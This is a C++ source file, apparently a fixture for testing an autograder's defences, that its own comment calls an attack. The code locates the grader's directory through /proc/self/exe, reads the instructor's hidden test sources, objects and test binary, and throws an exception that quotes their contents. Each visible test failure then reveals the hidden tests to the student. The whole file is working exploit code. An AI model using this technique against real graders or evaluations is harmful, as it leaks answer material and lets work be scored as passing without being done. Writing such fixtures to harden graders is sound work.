// Attack: the exercise looks for the instructor's hidden tests (their
// sources beside the grader's tree, the hidden test program, the objects
// setup.sh kept) and throws an exception whose message quotes them, so that
// every visible test's failure shows the hidden tests to the student.
#include <dirent.h>
#include <unistd.h>

#include <fstream>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

namespace {

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

std::vector<std::string> files_in(const std::string& folder) {
  std::vector<std::string> found;
  if (DIR* dir = opendir(folder.c_str())) {
    while (dirent* entry = readdir(dir)) {
      if (entry->d_name[0] != '.') found.push_back(folder + "/" + entry->d_name);
    }
    closedir(dir);
  }
  return found;
}

std::string leak() {
  char exe[4096] = {};
  const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
  std::string bin = n > 0 ? std::string(exe, static_cast<std::size_t>(n)) : std::string();
  bin = bin.substr(0, bin.rfind('/'));  // .../source/illum/build/grade-student/bin
  const std::string source = bin + "/../../../..";
  std::vector<std::string> candidates = files_in(source + "/hidden-tests");
  for (const std::string& path : files_in(source + "/grader/hidden-objects")) candidates.push_back(path);
  candidates.push_back(bin + "/tests_hidden");
  for (const std::string& path : files_in("../hidden-tests")) candidates.push_back(path);
  for (const std::string& path : candidates) {
    const std::string text = read_file(path);
    const std::size_t at = text.find("3-4-5");
    if (at != std::string::npos)
      return "LEAKED from " + path + ": " + text.substr(at > 200 ? at - 200 : 0, 600);
  }
  return "nothing of the hidden tests could be read";
}

void attack_hook() { throw std::runtime_error(leak()); }

}  // namespace
